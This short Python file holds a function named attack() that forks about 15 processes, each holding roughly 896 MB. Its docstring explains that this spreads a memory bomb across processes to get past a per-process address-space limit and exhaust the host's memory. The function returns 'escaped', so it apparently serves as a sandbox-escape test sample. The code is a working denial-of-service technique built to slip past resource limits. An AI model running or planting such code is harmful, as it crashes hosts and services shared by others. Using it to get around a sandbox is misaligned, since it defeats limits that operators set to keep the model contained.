"""Spread a memory bomb over many processes: each stays under the per-process
address-space limit, together they would take the host's memory."""

import os


def attack():
    for _ in range(15):
        if os.fork() == 0:
            break
    hoard = []
    for _ in range(7):
        hoard.append(b"x" * (128 * 2**20))
    return "escaped"
